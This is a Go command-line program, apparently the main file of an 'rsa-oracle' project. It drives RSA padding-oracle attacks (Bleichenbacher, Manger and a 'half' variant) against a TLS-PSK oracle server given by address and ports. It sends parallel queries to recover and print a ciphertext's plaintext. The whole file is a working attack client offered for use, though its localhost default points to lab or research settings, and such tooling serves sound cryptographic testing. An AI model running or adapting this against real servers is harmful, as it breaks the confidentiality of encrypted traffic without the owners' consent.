package main

import (
	"context"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"math/big"
	"net"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"time"

	"github.com/mahdiidarabi/rsa-oracle/pkg/padoracle"
)

func main() {
	var (
		attackName = flag.String("attack", "bleichenbacher", "Attack to run (bleichenbacher, manger or half)")
		addr       = flag.String("addr", "127.0.0.1", "Oracle server address")
		ports      = flag.String("port", "4433", "Oracle server port, or a comma-separated list of ports")
		numOracles = flag.Int("n", 1, "Number of parallel oracle connections (spread round-robin over the ports)")
		keyFile    = flag.String("key", "", "Path to the server's public key")
		keyFormat  = flag.String("key-format", "", "Public key format (raw, pem or json; empty = guess from extension)")
		encFile    = flag.String("enc", "", "Path to the ciphertext (raw or hex; default: 00 01 01 ... 01 for bleichenbacher)")
		bits       = flag.Int("l", 1024, "RSA key length in bits (raw keys)")
		verbosity  = flag.Int("v", 0, "Verbosity (0, 1 or 2)")
		timeout    = flag.Duration("timeout", time.Second, "Read timeout per oracle query")
		identity   = flag.String("identity", "", "PSK identity sent with every key exchange (default: Client_identity)")
		threshold  = flag.Int64("threshold", 0, "Brute-force the last interval once it is at most this wide (bleichenbacher)")
		oaepHash   = flag.String("oaep-hash", "sha1", "OAEP hash used to unpad the result (manger)")
		oaepLabel  = flag.String("oaep-label", "", "OAEP label used to unpad the result (manger)")
	)
	flag.Parse()

	if *keyFile == "" {
		fmt.Fprintf(os.Stderr, "Error: -key is required\n")
		flag.Usage()
		os.Exit(1)
	}
	if *threshold < 0 {
		fmt.Fprintf(os.Stderr, "Error: -threshold must not be negative\n")
		os.Exit(1)
	}
	if *numOracles < 1 {
		fmt.Fprintf(os.Stderr, "Error: -n must be at least 1\n")
		os.Exit(1)
	}

	cfg := padoracle.DefaultAttackConfig()
	cfg.Verbosity = *verbosity
	cfg.BruteForceThreshold = *threshold

	var attack padoracle.Attack
	switch strings.ToLower(*attackName) {
	case "bleichenbacher":
		attack = padoracle.NewBleichenbacherAttack().WithConfig(cfg)
	case "manger":
		attack = padoracle.NewMangerAttack().WithConfig(cfg)
	case "half", "intro":
		attack = padoracle.NewHalfAttack().WithConfig(cfg)
	default:
		fmt.Fprintf(os.Stderr, "Error: unknown attack %q\n", *attackName)
		os.Exit(1)
	}

	parser, err := padoracle.ParserFor(*keyFormat, *keyFile, *bits)
	if err != nil {
		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
		os.Exit(1)
	}
	key, err := parser.ParseKey(*keyFile)
	if err != nil {
		fmt.Fprintf(os.Stderr, "Error loading key: %v\n", err)
		os.Exit(1)
	}

	var ciphertext []byte
	if *encFile != "" {
		c, err := padoracle.LoadCiphertext(*encFile, key.Size())
		if err != nil {
			fmt.Fprintf(os.Stderr, "Error loading ciphertext: %v\n", err)
			os.Exit(1)
		}
		ciphertext = key.Encode(c)
	} else if attack.Name() != "Bleichenbacher" {
		fmt.Fprintf(os.Stderr, "Error: -enc is required for the %s attack\n", attack.Name())
		os.Exit(1)
	}

	portList, err := parsePorts(*ports)
	if err != nil {
		fmt.Fprintf(os.Stderr, "Error parsing -port: %v\n", err)
		os.Exit(1)
	}

	transport := padoracle.DefaultTransportConfig()
	transport.Timeout = *timeout
	if *identity != "" {
		transport.Identity = []byte(*identity)
	}

	oracles := make([]padoracle.Oracle, *numOracles)
	for i := range oracles {
		target := net.JoinHostPort(*addr, strconv.Itoa(portList[i%len(portList)]))
		if attack.Name() == "Half" {
			oracles[i] = padoracle.NewIntroOracle(target, transport)
		} else {
			oracles[i] = padoracle.NewTLSOracle(target, transport)
		}
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	client := padoracle.NewClient().WithAttack(attack).WithKeyParser(parser)
	result, err := client.RecoverWithKey(ctx, key, ciphertext, oracles...)
	if err != nil {
		fmt.Println("not found")
		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
		if errors.Is(err, padoracle.ErrOracleUnavailable) {
			os.Exit(2)
		}
		os.Exit(1)
	}

	fmt.Printf("\n[+] Recovered plaintext (%s attack):\n", result.Attack)
	fmt.Printf("    %s\n", hex.EncodeToString(result.Plaintext))
	printMessage(result, *oaepHash, *oaepLabel)
	fmt.Printf("    Rounds: %d, queries: %d, time: %v\n", result.Rounds, result.Queries, result.Duration.Round(time.Millisecond))
	if result.Verified {
		fmt.Println("    ✓ Verified by re-encryption!")
	}
}

// printMessage prints the unpadded message when the block parses.
func printMessage(result *padoracle.RecoveryResult, hashName, label string) {
	var msg []byte
	var err error

	switch result.Attack {
	case "Bleichenbacher":
		msg, err = result.Message()
	case "Manger":
		newHash, hashErr := padoracle.HashByName(hashName)
		if hashErr != nil {
			fmt.Fprintf(os.Stderr, "Warning: %v\n", hashErr)
			return
		}
		msg, err = result.OAEPMessage(newHash(), []byte(label))
	default:
		msg = new(big.Int).SetBytes(result.Plaintext).Bytes()
	}
	if err != nil {
		return
	}
	fmt.Printf("    Message: %q\n", msg)
}

func parsePorts(s string) ([]int, error) {
	parts := strings.Split(s, ",")
	ports := make([]int, 0, len(parts))
	for _, part := range parts {
		port, err := strconv.Atoi(strings.TrimSpace(part))
		if err != nil {
			return nil, err
		}
		if port <= 0 || port > 65535 {
			return nil, fmt.Errorf("port %d out of range", port)
		}
		ports = append(ports, port)
	}
	return ports, nil
}
